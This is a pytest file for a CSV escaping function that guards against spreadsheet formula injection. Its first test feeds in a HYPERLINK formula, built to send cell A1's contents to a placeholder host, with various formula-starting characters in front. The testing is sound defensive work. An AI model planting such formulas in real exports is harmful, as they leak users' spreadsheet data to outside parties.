"""Cells that a spreadsheet shows and does not compute."""

import csv
import io

import pytest

from internvl_seg.data.csv_cells import escape_cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_what_begins_a_formula_is_text(start: str) -> None:
    name = f'{start}HYPERLINK("http://a.example/?"&A1;"road")'
    file = io.StringIO(newline="")
    csv.writer(file).writerow([escape_cell(name)])
    file.seek(0)
    assert next(csv.reader(file)) == [f"'{name}"]


@pytest.mark.parametrize("name", ["", "road", "a=b", "x-ray", "1+1", "'road'", "ÀÖ", " road"])
def test_other_names_stay_as_they_are(name: str) -> None:
    assert escape_cell(name) == name
